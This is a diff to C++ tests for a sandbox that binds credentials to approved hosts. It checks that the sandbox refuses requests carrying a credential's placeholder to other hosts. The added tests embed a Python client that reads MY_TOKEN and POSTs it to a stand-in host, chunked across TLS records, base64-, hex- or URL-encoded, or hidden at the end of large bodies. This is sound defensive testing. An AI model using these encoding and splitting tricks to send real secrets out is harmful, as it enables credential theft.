@@ -27,9 +27,10 @@ class CredentialRun : public ::testing::Test {
   void SetUp() override {
     ASSERT_TRUE(make_test_files(files_));
     reqlog_ = files_ / "reqlog";
-    up_ = std::make_unique<Upstreams>(
-        std::vector<std::string>{"root=" + files_ / "www", "cert=" + files_ / "srv.pem",
-                                 "key=" + files_ / "srv.key", "reqlog=" + reqlog_});
+    bodylog_ = files_ / "bodylog";
+    up_ = std::make_unique<Upstreams>(std::vector<std::string>{
+        "root=" + files_ / "www", "cert=" + files_ / "srv.pem", "key=" + files_ / "srv.key",
+        "reqlog=" + reqlog_, "bodylog=" + bodylog_});
     ASSERT_TRUE(up_->ok());
     ::chmod(files_.path().c_str(), 0755);
     f_.env().push_back("SSL_CERT_FILE=" + files_ / "ca.pem");
@@ -78,9 +79,14 @@ class CredentialRun : public ::testing::Test {
     std::error_code ec;
     return std::filesystem::exists(reqlog_, ec) ? read_text(reqlog_) : "";
   }
+  // Every request body byte the upstreams received, as it arrived (bodies cut short included).
+  std::string bodylog() {
+    std::error_code ec;
+    return std::filesystem::exists(bodylog_, ec) ? read_text(bodylog_) : "";
+  }
 
   TempDir files_;
-  std::string reqlog_;
+  std::string reqlog_, bodylog_;
   std::unique_ptr<Upstreams> up_;
   SandboxFixture f_;
 };
@@ -232,6 +238,190 @@ TEST_F(CredentialRun, PlainHttpIsTreatedAlike) {
   ASSERT_EQ(exfil.size(), 1u);
   EXPECT_EQ(exfil[0].value("channel", ""), "body");
   EXPECT_EQ(exfil[0].value("mode", ""), "transparent");
+}
+
+// A python3 client in the sandbox: `poster SCHEME HOST PORT PATH NAME...` sends each named body
+// (see `bodies`) as one POST on a connection of its own, "chunked:NAME" with each part as a chunk
+// of its own (one send, so one TLS record, each), and prints "NAME STATUS ANSWER SHA256" per
+// request, or "NAME error EXCEPTION" when the connection failed.
+std::string poster(const std::string& args) {
+  static const std::string kScript = R"PY(
+import base64, hashlib, http.client, os, ssl, sys
+t = os.environ["MY_TOKEN"].encode()
+scheme, host, port, path = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
+big = bytes(range(256)) * (4 * 4096 + 3)
+bodies = {
+    "json": [b"{\"token\": \"" + t[:10], t[10:] + b"\"}"],
+    "b64_0": [base64.b64encode(t)],
+    "b64_1": [base64.b64encode(b"a" + t)],
+    "b64_2": [base64.b64encode(b"ab" + t)],
+    "b64url": [b"x=" + base64.urlsafe_b64encode(b"ab" + t)[:20], base64.urlsafe_b64encode(b"ab" + t)[20:]],
+    "hex": [b"k=" + t.hex().encode()],
+    "url": [b"q=" + b"".join(b"%%%02X" % c for c in t)],
+    "bigtail": [big + t],
+    "clean": [big],
+}
+for arg in sys.argv[5:]:
+    name = arg.split(":")[-1]
+    parts = bodies[name]
+    if scheme == "https":
+        c = http.client.HTTPSConnection(host, port, context=ssl.create_default_context(), timeout=60)
+    else:
+        c = http.client.HTTPConnection(host, port, timeout=60)
+    try:
+        if arg.startswith("chunked:"):
+            c.request("POST", path, body=iter(parts), encode_chunked=True)
+        else:
+            c.request("POST", path, body=b"".join(parts))
+        r = c.getresponse()
+        print(name, r.status, r.read().decode().strip(), hashlib.sha256(b"".join(parts)).hexdigest())
+    except Exception as e:
+        print(name, "error", type(e).__name__)
+    c.close()
+)PY";
+  return "python3 -c '" + kScript + "' " + args;
+}
+
+TEST_F(CredentialRun, AChunkedBodySplitAcrossTlsRecordsIsRefusedBeforeThePlaceholderLeaves) {
+  auto p = policy(R"([{"env": "MY_TOKEN", "hosts": ["api.test"]}])");
+  const std::string http = std::to_string(up_->port("http"));
+  auto r =
+      sh(p, "printenv MY_TOKEN; " + poster("https other.test " + port() + " /post chunked:json") +
+                "; " + poster("http other.test " + http + " /post chunked:json"));
+  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
+  const std::string placeholder = r.out.substr(0, r.out.find('\n'));
+  expect_same_shape(placeholder, kToken, 4);
+  const std::string refused =
+      "json 403 cordon: POST to other.test refused: its body carries the placeholder of "
+      "credential MY_TOKEN, which goes only to api.test (network.credentials) ";
+  EXPECT_THAT(r.out, HasSubstr("\n" + refused)) << r.err;
+  size_t refusals = 0;
+  for (size_t at = r.out.find(refused); at != std::string::npos; at = r.out.find(refused, at + 1)) {
+    ++refusals;
+  }
+  EXPECT_EQ(refusals, 2u) << r.out;
+  // The first record carried the placeholder's first 10 bytes: none of them went on.
+  const std::string got = bodylog();
+  EXPECT_THAT(got, Not(HasSubstr(placeholder.substr(0, 10))));
+  EXPECT_THAT(got + reqlog(), Not(HasSubstr(kToken)));
+  EXPECT_THAT(reqlog(), Not(HasSubstr("body:")));  // no body reached its end
+  auto exfil = f_.last_events("net.exfil");
+  ASSERT_EQ(exfil.size(), 2u);
+  EXPECT_EQ(exfil[0].value("channel", ""), "body");
+  EXPECT_EQ(exfil[0].value("mode", ""), "inspect");
+  EXPECT_EQ(exfil[1].value("mode", ""), "transparent");
+  EXPECT_EQ(exfil[0].value("credential", ""), "MY_TOKEN");
+  EXPECT_EQ(state_files_with(kToken), std::vector<std::string>{});
+}
+
+TEST_F(CredentialRun, EncodedPlaceholdersInABodyAreRefused) {
+  auto p = policy(R"([{"env": "MY_TOKEN", "hosts": ["api.test"]}])");
+  auto r = sh(p, "printenv MY_TOKEN; " +
+                     poster("https other.test " + port() +
+                            " /post b64_0 b64_1 b64_2 chunked:b64_1 chunked:b64url hex url "
+                            "chunked:url"));
+  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
+  const std::string placeholder = r.out.substr(0, r.out.find('\n'));
+  const std::string tail =
+      " carries the placeholder of credential MY_TOKEN, which goes only to api.test "
+      "(network.credentials) ";
+  for (const auto& [name, how] :
+       std::vector<std::pair<std::string, std::string>>{{"b64_0", "base64"},
+                                                        {"b64_1", "base64"},
+                                                        {"b64_2", "base64"},
+                                                        {"hex", "hex"},
+                                                        {"url", "url-encoded"}}) {
+    EXPECT_THAT(
+        r.out, HasSubstr("\n" + name + " 403 cordon: POST to other.test refused: its body (" + how +
+                         ")" + tail))
+        << r.out << r.err;
+  }
+  // A placeholder whose base64 has no '+' or '/' reads the same in both alphabets.
+  EXPECT_THAT(r.out,
+              HasSubstr("\nb64url 403 cordon: POST to other.test refused: its body (base64"));
+  auto exfil = f_.last_events("net.exfil");
+  ASSERT_EQ(exfil.size(), 8u);
+  std::vector<std::string> encodings;
+  for (const auto& e : exfil) {
+    encodings.push_back(e.value("encoding", ""));
+    EXPECT_EQ(e.value("channel", ""), "body");
+  }
+  EXPECT_THAT(encodings[4], ::testing::StartsWith("base64"));
+  encodings[4] = "base64*";
+  EXPECT_EQ(encodings, (std::vector<std::string>{"base64", "base64", "base64", "base64", "base64*",
+                                                 "hex", "url-encoded", "url-encoded"}));
+  // Whole bodies were judged before any byte went; streamed ones held the form back.
+  const std::string got = bodylog();
+  EXPECT_THAT(got, Not(HasSubstr(placeholder.substr(0, 10))));
+  EXPECT_THAT(got + reqlog(), Not(HasSubstr(kToken)));
+  EXPECT_THAT(reqlog(), Not(HasSubstr("body:")));
+}
+
+TEST_F(CredentialRun, LargeBodiesAreScannedToTheEndAndCleanOnesPassByteExact) {
+  auto p = policy(R"([{"env": "MY_TOKEN", "hosts": ["api.test"]}])");
+  const std::string http = std::to_string(up_->port("http"));
+  auto r = sh(p, "printenv MY_TOKEN; " +
+                     poster("https other.test " + port() +
+                            " /sha256 clean chunked:clean bigtail chunked:bigtail") +
+                     "; " +
+                     poster("http other.test " + http +
+                            " /sha256 clean chunked:clean bigtail chunked:bigtail"));
+  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
+  const std::string placeholder = r.out.substr(0, r.out.find('\n'));
+  std::istringstream lines(r.out.substr(r.out.find('\n') + 1));
+  std::string line;
+  size_t clean = 0, tails = 0;
+  while (std::getline(lines, line)) {
+    std::istringstream words(line);
+    std::string name, status, w1, w2, mine;
+    words >> name >> status >> w1 >> w2;
+    if (name == "clean") {
+      // "clean 200 sha256 <server's digest> <client's digest>"
+      words >> mine;
+      EXPECT_EQ(status, "200") << line;
+      EXPECT_EQ(w1, "sha256") << line;
+      EXPECT_EQ(w2, mine) << line;
+      EXPECT_EQ(mine.size(), 64u) << line;
+      ++clean;
+    } else if (name == "bigtail") {
+      // Refused after most of the body went: the 403, or the connection reset under the
+      // client's feet while it was still sending.
+      EXPECT_TRUE(status == "403" || status == "error") << line;
+      ++tails;
+    }
+  }
+  EXPECT_EQ(clean, 4u) << r.out;
+  EXPECT_EQ(tails, 4u) << r.out;
+  auto exfil = f_.last_events("net.exfil");
+  ASSERT_EQ(exfil.size(), 4u);
+  for (const auto& e : exfil) {
+    EXPECT_EQ(e.value("channel", ""), "body");
+    EXPECT_EQ(e.value("credential", ""), "MY_TOKEN");
+  }
+  const std::string got = bodylog();
+  EXPECT_GE(got.size(), 4u * 4 * 1024 * 1024);  // the clean ones, and most of the others
+  EXPECT_THAT(got, Not(HasSubstr(placeholder.substr(0, 10))));
+  EXPECT_THAT(got, Not(HasSubstr(kToken)));
+}
+
+TEST_F(CredentialRun, AChunkedBodyToTheBoundHostCarriesTheValue) {
+  auto p = policy(R"([{"env": "MY_TOKEN", "hosts": ["api.test"]}])");
+  const std::string http = std::to_string(up_->port("http"));
+  auto r =
+      sh(p, "printenv MY_TOKEN; " + poster("https api.test " + port() + " /post chunked:json") +
+                "; " + poster("http api.test " + http + " /post chunked:json"));
+  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
+  const std::string placeholder = r.out.substr(0, r.out.find('\n'));
+  EXPECT_THAT(r.out, HasSubstr("\njson 200 got 53 bytes "));
+  const std::string seen = reqlog();
+  size_t carried = 0;
+  const std::string want = std::string("body: {\"token\": \"") + kToken + "\"}\n";
+  for (size_t at = seen.find(want); at != std::string::npos; at = seen.find(want, at + 1)) {
+    ++carried;
+  }
+  EXPECT_EQ(carried, 2u) << seen;
+  EXPECT_THAT(bodylog(), Not(HasSubstr(placeholder)));
+  EXPECT_EQ(f_.last_events("net.exfil").size(), 0u);
 }
 
 TEST_F(CredentialRun, TheCredentialFlagBindsAVariableToHosts) {
